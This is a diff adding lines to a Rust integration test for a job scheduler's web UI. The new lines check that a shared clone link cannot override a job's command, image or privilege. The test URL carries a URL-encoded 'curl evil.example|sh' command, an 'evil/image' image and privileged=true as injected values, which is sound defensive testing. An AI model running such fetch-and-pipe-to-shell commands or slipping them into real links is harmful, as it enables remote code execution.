@@ -396,5 +396,16 @@ fn a_queued_jobs_overview_offers_the_change_that_starts_it_and_the_form_comes_fi
     let job = server.wait_for_state(&server.admin_token, &created, JobState::Completed);
     assert_eq!(job.spec.resource_shape.as_deref(), Some("gpu.4"));
     assert_eq!(server.job(&server.admin_token, &big).status.and_then(|s| s.state), Some(JobState::Queueing));
+
+    // A link someone else made carries only the three changes a suggestion
+    // can: anything else in its query leaves the cloned job as it was.
+    browser.goto(&format!(
+        "{}/jobs/new?clone={big}&parallelism=1&command=curl%20evil.example%7Csh&image=evil%2Fimage&privileged=true",
+        server.base_url
+    ));
+    browser.wait_for_text(&format!("Cloned from {big} with the change"));
+    browser.wait_until("the cloned command", || (value("command")? == "echo big").then_some(()));
+    assert_eq!(value("image").as_deref(), Some("busybox"), "the image is the job's own");
+    assert!(!diff().contains("evil"), "{}", diff());
     std::fs::write(&gate, "").unwrap();
 }
